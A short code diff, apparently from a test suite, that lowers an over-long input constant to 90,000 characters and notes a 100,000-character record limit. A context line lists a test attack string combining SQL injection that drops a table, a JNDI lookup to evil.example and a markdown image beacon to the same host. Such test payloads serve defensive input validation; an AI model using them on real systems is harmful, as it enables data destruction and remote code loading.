@@ -27,7 +27,8 @@ const ATTACKS = [
 	`'; DROP TABLE leads; -- \${jndi:ldap://evil.example} ![x](https://evil.example/p.png)`,
 ];
 
-const WITHOUT_END = 'x'.repeat(100_000);
+/** A record may have 100,000 characters in all. */
+const WITHOUT_END = 'x'.repeat(90_000);
 
 const EVENTS = ['new_filing', 'ownership_transfer'];
 
